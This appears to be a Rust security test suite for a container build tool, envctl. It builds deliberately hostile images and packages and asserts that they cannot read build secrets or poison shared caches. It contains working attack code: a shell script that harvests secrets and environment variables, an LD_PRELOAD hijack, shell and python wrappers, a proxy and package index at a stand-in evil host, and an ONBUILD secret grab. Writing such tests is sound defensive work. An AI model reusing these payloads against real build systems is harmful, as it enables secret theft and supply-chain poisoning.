//! Hostile images and packages. Each part that a build runs tries to read secrets and to write caches.

use std::process::Command;

use super::{Index, PASSWORD, block_on, build, remove_image, says, shared_cache};
use crate::sandbox::Sandbox;

/// Copies every secret, writes into every cache, and leaves a mark that proves that it ran.
const STEAL: &str = "#!/bin/dash
[ -n \"$STEALS\" ] && exit 0
export STEALS=1 LD_PRELOAD= BASH_ENV=
echo \"$1\" >> /loot/ran
for secret in /run/secrets/*; do
    [ -e $secret ] && echo ${secret##*/} >> /loot/seen
    [ ${secret##*/} = envctl-ca ] || cat $secret /proc/self/environ >> /loot/secrets 2>/dev/null
done
[ \"$1\" = preload ] || grep -rsl PASSWORD /run /var/cache/envctl-uv /var/tmp /tmp >> /loot/found
for cache in /var/cache/envctl-uv /var/cache/apt /var/lib/apt/lists; do
    [ -d $cache ] && echo poison > $cache/poison
done
exit 0
";

const PRELOAD: &str = "#include <stdlib.h>
#include <unistd.h>
#include <sys/wait.h>
__attribute__((constructor)) static void steal(void) {
    if (getenv(\"STEALS\")) return;
    if (fork() == 0) { unsetenv(\"LD_PRELOAD\"); execl(\"/steal\", \"/steal\", \"preload\", (char *)0); _exit(1); }
    wait(0);
}
";

const HOSTILE: &str = "FROM BASE
COPY steal preload.so /
RUN mkdir -m 0777 /loot && mkdir -p /usr/local/bin \\
    && printf '#!/bin/dash\\n/steal sh\\nexec /bin/dash \"$@\"\\n' > /steal-sh \\
    && printf '#!/bin/dash\\n/steal python\\nexec /usr/bin/python3.11 \"$@\"\\n' > /usr/local/bin/python3.11 \\
    && printf '/steal bash\\n' > /steal-bash \\
    && chmod 0755 /steal-sh /usr/local/bin/python3.11 \\
    && cp /bin/bash /bin/bash.real && rm /bin/sh && ln -s /steal-sh /bin/sh
ENV BASH_ENV=/steal-bash LD_PRELOAD=/preload.so UV_INDEX_URL=http://evil.invalid/simple UV_CONFIG_FILE=/evil.toml \\
    HTTPS_PROXY=http://evil.invalid:3128 SSL_CERT_FILE=/evil.pem
SHELL [\"/bin/bash\", \"-c\"]
";

fn preload() -> Vec<u8> {
    let directory = tempfile::tempdir().unwrap();
    let (source, library) = (directory.path().join("preload.c"), directory.path().join("preload.so"));
    std::fs::write(&source, PRELOAD).unwrap();
    let compiled = Command::new("cc").args(["-shared", "-fPIC", "-o"]).arg(&library).arg(&source).status();
    assert!(compiled.unwrap().success());
    std::fs::read(library).unwrap()
}

/// A sandbox of a user with a password for an index.
fn sandbox(index: &Index, manifest: &str) -> Sandbox {
    let sandbox = Sandbox::new("");
    std::fs::write(sandbox.file("envctl.toml"), manifest).unwrap();
    std::fs::create_dir_all(sandbox.home().join(".config/envctl")).unwrap();
    std::fs::write(sandbox.home().join(".config/envctl/config.toml"), index.configuration()).unwrap();
    sandbox
}

fn manifest(system: &str, packages: &str) -> String {
    format!(
        "name = \"attack\"\n[frameworks]\nonnxruntime = \">=1.18\"\n[python]\nversion = \"3.11\"\npackages = [{packages}]\n\
         [system]\n{system}\n[gpu]\ndevices = \"none\"\n[ssh]\nenabled = false\n"
    )
}

fn built(sandbox: &Sandbox) -> String {
    let built = sandbox.json(&["build", "--bootstrap", "--allow", "image"]);
    assert_eq!(built["ok"], true, "{built:#}");
    built["image"].as_str().unwrap().to_owned()
}

#[test]
fn a_hostile_image_finds_no_secret_and_no_cache_of_others() {
    let index = Index::start();
    let tag = format!("envctl-attack/hostile:{}", std::process::id());
    let steal = STEAL.replace("PASSWORD", PASSWORD);
    block_on(build(&tag, HOSTILE, &[("steal", steal.as_bytes()), ("preload.so", &preload())])).unwrap();
    let sandbox = sandbox(&index, &manifest(&format!("image = \"{tag}\""), "\"labtool\""));
    let image = built(&sandbox);
    let say = |script: &str| says(&image, "/bin/bash.real", script);
    for way in ["preload", "sh", "python", "bash"] {
        assert!(say("cat /loot/ran").contains(way), "{way} was not run");
    }
    let seen = say("sort -u /loot/seen");
    assert!(["", "envctl-ca"].contains(&seen.as_str()), "{seen}");
    assert_eq!(say(&format!("cat /loot/found; grep -rl {PASSWORD} /loot /opt /var /tmp /etc /root || true")), "");
    assert_eq!(say("/opt/envctl/venv/bin/python -c 'import labtool, onnxruntime; print(labtool.value)'"), "1");
    assert_eq!(shared_cache(&format!("{tag}-look")), "");
    remove_image(&image);
    remove_image(&tag);
}

#[test]
fn an_image_whose_onbuild_mounts_a_secret_is_not_built_on() {
    let tag = format!("envctl-attack/onbuild:{}", std::process::id());
    let text = "FROM BASE\nONBUILD RUN --mount=type=secret,id=envctl-index cat /run/secrets/envctl-index > /loot\n";
    block_on(build(&tag, text, &[])).unwrap();
    let index = Index::start();
    let refused = sandbox(&index, &manifest(&format!("image = \"{tag}\""), "")).json(&[
        "build",
        "--bootstrap",
        "--allow",
        "image",
    ]);
    assert_eq!(refused["error"]["kind"], "base-triggers", "{refused:#}");
    remove_image(&tag);
}

/// A wheel contains programs with the names of programs in the build steps, and code that every Python start runs.
#[test]
fn a_hostile_package_finds_no_secret_and_no_cache_of_others() {
    let index = Index::start();
    let sandbox = sandbox(&index, &manifest("base = \"debian:12\"", "\"evil\", \"labtool\""));
    let image = built(&sandbox);
    assert_eq!(says(&image, "/bin/sh", "ls /loot 2>/dev/null || true"), "");
    assert_eq!(shared_cache(&format!("envctl-attack/look:{}", std::process::id())), "");
    remove_image(&image);
}

/// What a module of the index says of its build.
fn build_saw(image: &str, module: &str) -> String {
    let script = format!("import {module}; print({module}.value, {module}.seen, {module}.uid)");
    says(image, "/bin/sh", &format!("/opt/envctl/venv/bin/python -c '{script}'"))
}

/// Its code runs in the build alone.
#[test]
fn a_source_that_says_what_it_needs_is_built_without_a_question() {
    let index = Index::start();
    let sandbox = sandbox(&index, &manifest("base = \"debian:12\"", "\"statictool\""));
    let image = built(&sandbox);
    assert!(!index.ran_code_here());
    assert_eq!(build_saw(&image, "statictool"), "1 [] 65534");
    assert_eq!(says(&image, "/bin/sh", "command -v cc || echo none"), "none");
    assert_eq!(shared_cache(&format!("envctl-attack/look:{}-static", std::process::id())), "");
    remove_image(&image);
}

/// No manifest can allow it. Only the user can, for the lock and for the build.
#[test]
fn a_package_without_a_wheel_is_built_only_where_that_was_agreed_to() {
    let index = Index::start();
    let text = manifest("base = \"debian:12\"", "\"oldtool\"");
    let agreeing = sandbox(&index, &text);
    let refused = agreeing.run(&["lock"]);
    assert!(refused.code != 0 && refused.stderr.contains("--allow package-builds"), "{refused:#?}");
    assert!(!index.ran_code_here() && !agreeing.file("envctl.lock").exists());

    let built = agreeing.json(&["build", "--bootstrap", "--allow", "package-builds"]);
    assert_eq!(built["ok"], true, "{built:#}");
    assert!(!index.ran_code_here());
    let image = built["image"].as_str().unwrap();
    assert_eq!(build_saw(image, "oldtool"), "1 [] 65534");
    assert_eq!(shared_cache(&format!("envctl-attack/look:{}-old", std::process::id())), "");
    remove_image(image);

    // A lock from a clone gives no agreement: neither `--locked` nor its own hashes do.
    let other = sandbox(&index, &text);
    std::fs::copy(agreeing.file("envctl.lock"), other.file("envctl.lock")).unwrap();
    for more in [&["--locked"][..], &["--frozen"], &[]] {
        let arguments: Vec<_> = ["build", "--bootstrap"].iter().chain(more).copied().collect();
        let refused = other.run(&arguments);
        assert!(refused.code != 0 && refused.stderr.contains("--allow package-builds"), "{more:?}: {refused:#?}");
        assert!(!index.ran_code_here(), "{more:?}");
    }
}
